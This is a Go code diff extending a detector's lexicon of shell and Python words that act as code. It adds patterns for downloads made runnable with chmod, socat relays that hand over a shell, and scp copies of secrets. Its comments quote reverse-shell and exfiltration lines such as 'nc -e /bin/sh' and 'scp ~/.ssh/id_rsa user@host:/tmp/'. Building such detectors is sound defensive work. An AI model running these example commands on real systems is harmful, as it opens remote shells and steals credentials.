@@ -87,12 +87,24 @@ const (
 	// (Analyzer.sendsAt): "curl -F file=@… https://…" (a file sent), "nc
 	// -e /bin/sh …" (a shell handed to another machine).
 	codeSender
+	// codeRunner is chmod making runnable a file a download saved
+	// (Analyzer.makesRunnable): "curl -o /tmp/p https://… && chmod +x
+	// /tmp/p".
+	codeRunner
+	// codeRelay is socat given an address of one of the kinds
+	// codeWord.context names, which runs a program (Analyzer.relays):
+	// "socat exec:'bash -li',pty tcp:host:4444".
+	codeRelay
+	// codeCopier is a copy to another machine of a secret
+	// (Analyzer.copiesSecret): "scp ~/.ssh/id_rsa user@host:/tmp/".
+	codeCopier
 )
 
 // codeWord is what the lexicon knows of a word that acts as code.
 type codeWord struct {
 	use     codeUse
-	context []string // a codeMember's modules, a codeFile's directory
+	also    codeUse  // a second use, or 0: scp is a Python module and a program
+	context []string // a codeMember's modules, a codeFile's directory, a codeRelay's kinds of address
 	options []option // a codeInterpreter's or codeSender's options
 	bit     int      // its bit in Analysis.code
 }
@@ -126,7 +138,7 @@ var codeWords = map[string]string{
 	"ftplib":         "module=ftplib ftp",
 	"telnetlib":      "module=telnetlib telnet",
 	"paramiko":       "module=paramiko ssh sftp",
-	"scp":            "module=scp ssh sftp",
+	"scp":            "module+copier=scp sftp rsync backup migrate move transfer",
 	"post":           "member requests httpx session=requests httpx upload uploads webhook",
 	"put":            "member requests httpx session=requests httpx upload uploads",
 	"tcp":            "file dev=socket sockets tcp",
@@ -146,10 +158,12 @@ var codeWords = map[string]string{
 	"scapy":          "module=scapy packet packets",
 	"passwd":         "file etc=passwd",
 	"shadow":         "file etc=passwd",
-	// the shell: a download run as it arrives (an interpreter and the
-	// options by which it runs code of its own), a file sent (the options
-	// that send one; "@": before a value that begins with '@'), a shell
-	// handed over
+	// the shell: a download run as it arrives or once saved, or a
+	// decoded blob or what another machine sends run (an interpreter and
+	// the options by which it runs code of its own), a download made
+	// runnable, a file sent (the options that send one; "@": before a
+	// value that begins with '@'), a shell handed over ("!": before a
+	// shell's name), a secret copied to another machine
 	"bash":       "interpreter c" + downloadTopics,
 	"sh":         "interpreter c" + downloadTopics,
 	"zsh":        "interpreter c" + downloadTopics,
@@ -166,9 +180,12 @@ var codeWords = map[string]string{
 	"wget":       "sender post-file body-file=wget upload uploads",
 	"restmethod": "sender infile=upload uploads", // Invoke-RestMethod
 	"irm":        "sender infile=upload uploads",
-	"nc":         "sender e exec=netcat nc ncat", // BSD nc's -c only ends lines with CRLF
+	"nc":         "sender e exec c!=netcat nc ncat", // "-c" only before a shell: BSD nc's ends lines with CRLF
 	"ncat":       "sender e c exec sh-exec=netcat nc ncat",
-	"netcat":     "sender e exec=netcat nc ncat",
+	"netcat":     "sender e exec c!=netcat nc ncat", // GNU netcat's "-c" closes the connection
+	"socat":      "relay exec system=socat",
+	"chmod":      "runner" + downloadTopics,
+	"rsync":      "copier=scp sftp rsync backup migrate move transfer",
 }
 
 // downloadTopics is the end of the codeWords entry of an interpreter: a task
@@ -186,7 +203,7 @@ var (
 
 func init() {
 	uses := map[string]codeUse{"module": codeModule, "member": codeMember, "builtin": codeBuiltin, "file": codeFile, "any": codeAny,
-		"interpreter": codeInterpreter, "sender": codeSender}
+		"interpreter": codeInterpreter, "sender": codeSender, "runner": codeRunner, "relay": codeRelay, "copier": codeCopier}
 	for w := range codeWords {
 		codeOrder = append(codeOrder, w)
 	}
@@ -200,12 +217,17 @@ func init() {
 		if len(f) == 0 {
 			panic("content: code word " + w + ": no use in " + codeWords[w])
 		}
-		use, ok := uses[f[0]]
-		needs := use == codeMember || use == codeFile || use == codeSender // a context or options
+		first, second, two := strings.Cut(f[0], "+")
+		use, ok := uses[first]
+		also, alsoOK := uses[second]
+		if two && (!alsoOK || also == use) {
+			panic("content: code word " + w + ": bad second use in " + codeWords[w])
+		}
+		needs := use == codeMember || use == codeFile || use == codeSender || use == codeRelay // a context or options
 		if !ok || needs && len(f) == 1 || !needs && use != codeInterpreter && len(f) > 1 || len(strings.Fields(topics)) == 0 {
 			panic("content: code word " + w + ": bad spec " + codeWords[w])
 		}
-		cw := codeWord{use: use, bit: i}
+		cw := codeWord{use: use, also: also, bit: i}
 		if use == codeInterpreter || use == codeSender {
 			for _, o := range f[1:] {
 				cw.options = append(cw.options, parseOption(o))
@@ -270,11 +292,16 @@ func hasWord(list []string, w []byte) bool {
 }
 
 // codeActAt reports whether word i, one of codeWords, stands as code
-// (codeUse).
+// (codeUse) in one of its uses.
 func (z *Analyzer) codeActAt(i int, c codeWord) bool {
+	return z.usedAs(i, c, c.use) || c.also != 0 && z.usedAs(i, c, c.also)
+}
+
+// usedAs reports whether word i, one of codeWords, stands as code in use.
+func (z *Analyzer) usedAs(i int, c codeWord, use codeUse) bool {
 	w := &z.words[i]
 	prev := z.tok(i - 1)
-	switch c.use {
+	switch use {
 	case codeModule:
 		dotted := w.next == '.' && i+1 < len(z.words) && z.words[i+1].joint == '.' // "smtplib.SMTP"
 		from := string(prev) == "from" && string(z.tok(i+1)) == "import"           // "from pynput import…"
@@ -297,7 +324,13 @@ func (z *Analyzer) codeActAt(i int, c codeWord) bool {
 	case codeInterpreter:
 		return z.runsDownload(i, c.options)
 	case codeSender:
-		return z.sendsAt(i, c.options)
+		return z.sendsAt(i, c.options) || hasWord(netcats, z.tok(i)) && z.fedSecret(i)
+	case codeRunner:
+		return z.makesRunnable(i)
+	case codeRelay:
+		return z.relays(i, c.context)
+	case codeCopier:
+		return z.copiesSecret(i)
 	}
 	return false
 }
